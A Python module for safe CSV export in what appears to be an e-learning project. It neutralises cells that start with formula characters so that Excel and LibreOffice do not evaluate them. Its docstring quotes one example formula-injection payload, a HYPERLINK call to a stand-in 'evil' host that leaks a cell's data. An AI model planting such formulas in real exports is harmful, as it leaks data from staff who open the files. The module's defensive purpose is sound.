"""CSV that a spreadsheet opens as data: every text cell that could start a formula is neutralised.

Why: unit names, course titles and learner answers come from people we do not control, and Excel or
LibreOffice evaluate a cell starting with `=`, `+`, `-`, `@` (or a tab / carriage return before one)
as a formula: `=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")` leaks data when staff open the file.
The cell keeps its text, prefixed with `'` (shown as text, not evaluated). Numbers stay numbers.
Every CSV export of the project writes through `csv_writer` (graders' completion report, auto_quiz's
item statistics). Pure: no framework import, so both xblocks and graders can use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")  # "-0.1234" is a number, not a formula
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # + full-width


def spreadsheet_cell(value: Any) -> Any:
    """The value as a spreadsheet will read it safely: numbers unchanged, None empty, text defused."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.lstrip(" ").startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `spreadsheet_cell`."""

    def __init__(self, out: TextIO, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([spreadsheet_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **options: Any) -> SafeCsvWriter:
    """A CSV writer for any export that leaves this project (options as for `csv.writer`)."""
    return SafeCsvWriter(out, **options)
